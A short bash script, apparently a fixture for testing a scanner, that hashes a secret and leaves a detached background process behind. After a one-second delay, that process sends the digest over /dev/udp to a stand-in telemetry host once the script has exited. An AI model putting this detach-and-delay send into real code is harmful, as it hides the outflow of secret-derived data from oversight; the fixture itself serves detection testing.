#!/bin/bash
# Ends, and leaves behind a process that waits before it sends.
. "${0%/*}/scanner.sh"
http updates.vendor.example /v1/version
digest=$(secret | sha256sum)
(
	setsid bash -c 'sleep 1; printf "alive %s\n" "$1" >/dev/udp/telemetry.vendor.example/8125' dormant "${digest%% *}" </dev/null >/dev/null 2>&1 &
)
